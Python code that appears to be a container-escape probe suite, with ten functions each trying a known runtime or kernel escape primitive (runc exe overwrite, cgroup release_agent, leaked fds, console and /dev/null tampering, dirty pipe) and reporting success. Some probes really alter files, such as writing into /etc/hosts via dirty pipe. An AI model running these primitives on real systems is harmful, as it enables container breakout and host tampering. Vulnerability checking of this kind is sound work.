def E01(scene):
    """CVE-2019-5736: the runtime's own program, over the /proc/PID/exe of what it starts, while it starts something."""
    names = ("runc", "crun", "runsc", "conmon", "nspawn", "lxc", "qemu", "shim")
    found, until = {}, time.time() + 4
    while time.time() < until:
        for pid in processes():
            try:
                target = os.readlink("/proc/%d/exe" % pid)
            except OSError:
                continue
            # A copy in memory is nobody's but its own.
            if any(name in target for name in names) and not target.startswith("/memfd:") and target not in found:
                found[target] = can_open("/proc/%d/exe" % pid, os.O_WRONLY)
        time.sleep(0.005)
    return {"seen": sorted(found), "opened": [path for path, how in found.items() if how in ("done", "ETXTBSY")]}


def E02(scene):
    """CVE-2022-0492: a release agent in a control group of version 1, with a new user namespace."""
    def agent():
        call("unshare", 0x10000000)
        call("unshare", 0x02000000 | 0x20000)  # control group and mount namespace
        os.makedirs("/tmp/agent", exist_ok=True)
        for controller in (b"rdma", b"memory", b"pids", b"cpu"):
            if attempt(call, "mount", b"cgroup", b"/tmp/agent", b"cgroup", 0, controller) == "done":
                return {"mounted": True, "agent": can_open("/tmp/agent/release_agent", os.O_WRONLY)}
        return {"mounted": False}
    said = in_child(agent)
    return said if isinstance(said, dict) else {"refused": said}


def E03(scene):
    """The same without a new user namespace."""
    def agent():
        call("unshare", 0x20000)
        os.makedirs("/tmp/agent", exist_ok=True)
        for controller in (b"rdma", b"memory", b"pids", b"cpu"):
            if attempt(call, "mount", b"cgroup", b"/tmp/agent", b"cgroup", 0, controller) == "done":
                return {"mounted": True, "agent": can_open("/tmp/agent/release_agent", os.O_WRONLY)}
        if attempt(call, "mount", b"cgroup", b"/tmp/agent", b"cgroup2", 0, b"") == "done":
            return {"mounted": os.access("/tmp/agent/cgroup.procs", os.W_OK), "agent": "ENOENT"}
        return {"mounted": False}
    said = in_child(agent)
    return said if isinstance(said, dict) else {"refused": said}


def E04(scene):
    """CVE-2024-21626: a working directory of the runtime's own that has stayed open."""
    found = []
    for pid in processes():
        for name in ["cwd"] + ["fd/%d" % number for number in range(3, 20)]:
            path = "/proc/%d/%s" % (pid, name)
            for up in ("", "/..", "/../../..", "/../../../../.."):
                found.append(text(path + up + scene["rootFile"]))
    return {"found": "".join(found)}


def E05(scene):
    """CVE-2025-31133: what is masked is masked by a bind of /dev/null: is it really that?"""
    facts = os.stat("/dev/null")
    import stat
    masked = [path for path in ("/proc/kcore", "/proc/keys", "/proc/timer_list", "/proc/sysrq-trigger")
              if can_open(path, os.O_RDWR) == "done" and not stat.S_ISCHR(os.stat(path).st_mode)]
    replace = attempt(os.rename, "/dev/null", "/dev/null.old")
    if replace == "done":
        attempt(os.rename, "/dev/null.old", "/dev/null")
    return {"null": [stat.S_ISCHR(facts.st_mode), facts.st_rdev], "writable": masked, "replace": replace}


def E06(scene):
    """CVE-2025-52565: a console that leads to something else: /dev/pts and /dev/console written over."""
    said = {}
    for path in ("/dev/console", "/dev/pts/ptmx", "/dev/ptmx"):
        made = attempt(os.symlink, "/proc/sys/kernel/core_pattern", path + ".new")
        said[path] = attempt(os.rename, path + ".new", path) if made == "done" else made
        attempt(os.unlink, path + ".new")
    return {"replaced": [path for path, done in said.items() if done == "done"]}


def E07(scene):
    """CVE-2025-52881: writes of labels that are led elsewhere, such as into sysrq-trigger or core_pattern."""
    said = {}
    for path in ("/proc/self/attr/exec", "/proc/self/attr/keycreate", "/proc/self/attr/apparmor/exec"):
        if not os.path.exists(path):
            continue
        said[path] = attempt(call, "mount", b"/proc/sys/kernel/core_pattern", path.encode(), b"", 4096, 0)
        if said[path] == "done":
            call("umount2", path.encode(), 2)
    return {"redirected": [path for path, done in said.items() if done == "done"]}


def E08(scene):
    """CVE-2026-41579: mount points of the image that are no plain directories. What is started so is started outside."""
    return {"uid": os.geteuid()}


def E09(scene):
    """dirty pipe (CVE-2022-0847): a page of a file that may only be read, written through a pipe."""
    # Never a file of the image, which others share: a kernel with this hole would change it for all of them.
    path = scene["hostFile"] if os.path.exists(scene["hostFile"]) else "/etc/hosts"
    before = text(path)
    reading, writing = os.pipe()
    size = 65536
    os.set_blocking(writing, False)
    try:
        while True:
            os.write(writing, b"x" * 4096)
    except BlockingIOError:
        pass
    os.set_blocking(reading, False)
    try:
        while os.read(reading, size):
            pass
    except BlockingIOError:
        pass
    source = os.open(path, os.O_RDONLY)
    os.splice(source, writing, 1, offset_src=0)
    attempt(os.write, writing, b"#")
    return {"kernel": os.uname().release, "changed": text(path) != before}


def E10(scene):
    """CVE-2024-21626 by the image: what is started so is started outside."""
    return {"uid": os.geteuid()}
